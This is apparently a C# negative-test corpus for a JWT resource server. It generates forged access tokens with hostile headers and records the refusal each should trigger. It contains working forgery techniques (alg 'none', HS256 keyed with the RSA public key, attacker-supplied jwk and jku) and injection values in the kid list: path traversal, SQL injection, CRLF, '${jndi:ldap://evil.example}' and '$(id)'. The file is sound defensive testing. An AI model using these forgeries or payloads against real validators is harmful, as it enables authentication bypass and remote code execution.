using System.Security.Cryptography;
using System.Text;
using System.Text.Json.Nodes;

namespace TokenAspire.ResourceServer.Tests.Corpus;

/// <summary>Tokens whose header is not that of an access token of this issuer, signed as well as can be.</summary>
internal static class HeaderForgeries
{
    private static readonly string[] Algorithms =
    [
        "", "RS384", "RS512", "ES384", "ES512", "ES256K", "EdDSA", "PS384", "PS512", "HS384", "HS512", "dir", "A128KW", "RSA-OAEP", "RSA1_5",
        "rs256", "Es256", "RS256 ", " RS256", "RS256\0", "RS256,none", "RS\u0425256", "SHA256", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
    ];

    private static readonly string[] Types =
    [
        "", "JWT", "jwt", "at+jwt ", " at+jwt", "at+jwt\0", "at-jwt", "at+jwt2", "atjwt", "application/at+jwt2", "text/at+jwt", "application/at+jwt; charset=utf-8",
        "id+jwt", "logout+jwt", "rt+jwt", "dpop+jwt", "client-authentication+jwt", "oauth-authz-req+jwt", "secevent+jwt", "token-introspection+jwt", "application/jwt",
    ];

    private static readonly string[] KeyIds =
    [
        "", "RSA-1", "rsa-1 ", " rsa-1", "rsa-1\0", "rsa", "rsa-1/../rsa-1", "../../../../dev/null", "/etc/passwd", "' or '1'='1", "rsa-1'; drop table keys; --",
        "rsa-1\r\nX-Evil: 1", "https://evil.example/jwks", "${jndi:ldap://evil.example}", "{{7*7}}", "*", "rsa-1,ec-1", "$(id)", "\u202Ersa-1", "0", "null",
    ];

    private static readonly string[] NotTexts = ["null", "1", "true", "{}", "[]", "[\"rsa-1\"]", "{\"kid\":\"rsa-1\"}", "1e999", "-0"];

    private static readonly string[] Refused = ["crit", "jku", "jwk", "x5u", "x5c", "zip", "enc", "b64"];

    private static readonly string[] RefusedValues = ["null", "true", "false", "\"\"", "\"DEF\"", "[]", "[\"exp\"]", "{}", "\"https://evil.example/jwks\"", "[\"AAAA\"]", "1"];

    public static IEnumerable<Forgery> Make(TokenForge forge, int times) =>
    [
        .. Enumerable.Range(0, times).SelectMany(_ => Nones(forge)),
        .. Enumerable.Range(0, times).SelectMany(_ => PublicKeyAsSecret(forge)),
        .. Enumerable.Range(0, times).SelectMany(_ => Parameters(forge)),
        .. Enumerable.Range(0, times).SelectMany(_ => HostileKeyIds(forge)),
        .. Enumerable.Range(0, times).SelectMany(_ => JsonDamage.All.Select(damage => Damaged(forge, damage.Key, damage.Value))),
    ];

    // "none" in every spelling, with its signature, without one, and with one of nothing.
    private static IEnumerable<Forgery> Nones(TokenForge forge)
    {
        for (int spelling = 0; spelling < 16; spelling++)
        {
            string none = string.Concat("none".Select((letter, index) => (spelling >> index & 1) == 0 ? letter : char.ToUpperInvariant(letter)));
            string signed = forge.WithHeader(header => header["alg"] = none);
            string signature = forge.Random.Next(3) switch { 0 => signed[signed.LastIndexOf('.')..], 1 => ".", _ => ".AAAA" };
            yield return new Forgery(1, "alg none", RefusalReason.UnsupportedAlgorithm, signed[..signed.LastIndexOf('.')] + signature);
        }
    }

    private static IEnumerable<Forgery> PublicKeyAsSecret(TokenForge forge)
    {
        RSA rsa = forge.Issuer.Rsa.Rsa;
        byte[][] secrets =
        [
            Encoding.ASCII.GetBytes(rsa.ExportSubjectPublicKeyInfoPem()),
            Encoding.ASCII.GetBytes(rsa.ExportSubjectPublicKeyInfoPem() + "\n"),
            Encoding.ASCII.GetBytes(rsa.ExportRSAPublicKeyPem()),
            rsa.ExportSubjectPublicKeyInfo(),
            rsa.ExportRSAPublicKey(),
            TokenForge.Utf8(forge.Issuer.Rsa.ToJwk().ToJsonString()),
            TokenForge.Utf8((string)forge.Issuer.Rsa.ToJwk()["n"]!),
            rsa.ExportParameters(includePrivateParameters: false).Modulus!,
            [],
        ];
        foreach (byte[] secret in secrets)
        {
            string token = forge.WithHeader(header => header["alg"] = "HS256", forge.Issuer.Rsa);
            string input = token[..token.LastIndexOf('.')];
            yield return new Forgery(1, "HS256 with the public key", RefusalReason.UnsupportedAlgorithm, $"{input}.{TokenForge.Encode(HMACSHA256.HashData(secret, Encoding.ASCII.GetBytes(input)))}");
        }
    }

    private static IEnumerable<Forgery> Parameters(TokenForge forge)
    {
        TestIssuer issuer = forge.Issuer;
        yield return new Forgery(1, "alg", RefusalReason.UnsupportedAlgorithm, forge.WithHeader(header => header["alg"] = forge.Pick(Algorithms)));
        yield return new Forgery(1, "alg is no text", RefusalReason.UnsupportedAlgorithm, forge.WithHeader(header => header["alg"] = JsonOf(forge.Pick(NotTexts))));
        yield return new Forgery(1, "no alg", RefusalReason.UnsupportedAlgorithm, forge.WithHeader(header => header.Remove("alg")));
        yield return new Forgery(1, "RS256 for the elliptic key", RefusalReason.UnsupportedAlgorithm, forge.WithHeader(header => header["kid"] = issuer.EllipticCurve.KeyId, issuer.Rsa));
        yield return new Forgery(1, "ES256 for the RSA key", RefusalReason.UnsupportedAlgorithm, forge.WithHeader(header => header["kid"] = issuer.Rsa.KeyId, issuer.EllipticCurve));
        yield return new Forgery(1, "PS256 for the RS256 key", RefusalReason.UnsupportedAlgorithm, Pss(forge));
        string refused = forge.Pick(Refused);
        yield return new Forgery(2, refused, RefusalReason.UnsupportedHeader, forge.WithHeader(header => header[refused] = JsonOf(forge.Pick(RefusedValues))));
        yield return new Forgery(2, "own key in the header", RefusalReason.UnsupportedHeader, OwnKey(forge));
        yield return new Forgery(4, "typ", RefusalReason.UnsupportedType, forge.WithHeader(header => header["typ"] = forge.Pick(Types)));
        yield return new Forgery(4, "typ is no text", RefusalReason.UnsupportedType, forge.WithHeader(header => header["typ"] = JsonOf(forge.Pick(NotTexts))));
        yield return new Forgery(4, "no typ", RefusalReason.UnsupportedType, forge.WithHeader(header => header.Remove("typ")));
        yield return new Forgery(4, "cty instead of typ", RefusalReason.UnsupportedType, forge.WithHeader(header => { header.Remove("typ"); header["cty"] = "at+jwt"; }));
    }

    private static IEnumerable<Forgery> HostileKeyIds(TokenForge forge)
    {
        yield return KeyId(forge, forge.Pick(KeyIds));
        yield return KeyId(forge, new string('k', forge.Random.Next(200, 5_000)));
        yield return KeyId(forge, string.Concat(Enumerable.Range(0, 30).Select(_ => (char)forge.Random.Next(1, 0xD7FF))));
        yield return new Forgery(3, "kid is no text", RefusalReason.UnknownKey, forge.WithHeader(header => header["kid"] = JsonOf(forge.Pick(NotTexts))));
        yield return new Forgery(3, "no kid", RefusalReason.UnknownKey, forge.WithHeader(header => header.Remove("kid")));
        yield return new Forgery(3, "kid of 10 kB", RefusalReason.TooLarge, forge.WithHeader(header => header["kid"] = new string('k', 10_000)));
        yield return new Forgery(3, "another key's kid", RefusalReason.BadSignature, forge.WithHeader(_ => { }, forge.Random.Next(8) == 0 ? TestSigningKey.CreateRsa("rsa-1") : TestSigningKey.CreateEllipticCurve("ec-1")));
    }

    private static Forgery KeyId(TokenForge forge, string keyId) =>
        new(3, "kid", RefusalReason.UnknownKey, forge.WithHeader(header => header["kid"] = keyId));

    private static Forgery Damaged(TokenForge forge, string name, Func<byte[], Random, byte[]> damage)
    {
        TestSigningKey key = forge.Key;
        return new Forgery(2, $"header: {name}", RefusalReason.Malformed, forge.WithHeader(damage(TokenForge.Utf8(TokenForge.HeaderOf(key)), forge.Random), key));
    }

    private static string Pss(TokenForge forge)
    {
        string token = forge.WithHeader(header => header["alg"] = "PS256", forge.Issuer.Rsa);
        string input = token[..token.LastIndexOf('.')];
        return $"{input}.{TokenForge.Encode(forge.Issuer.Rsa.Rsa.SignData(Encoding.ASCII.GetBytes(input), HashAlgorithmName.SHA256, RSASignaturePadding.Pss))}";
    }

    private static string OwnKey(TokenForge forge)
    {
        TestSigningKey own = TestSigningKey.CreateEllipticCurve(forge.Issuer.EllipticCurve.KeyId);
        return forge.WithHeader(header => header["jwk"] = own.ToJwk(), own);
    }

    private static JsonNode? JsonOf(string json) => JsonNode.Parse(json);
}
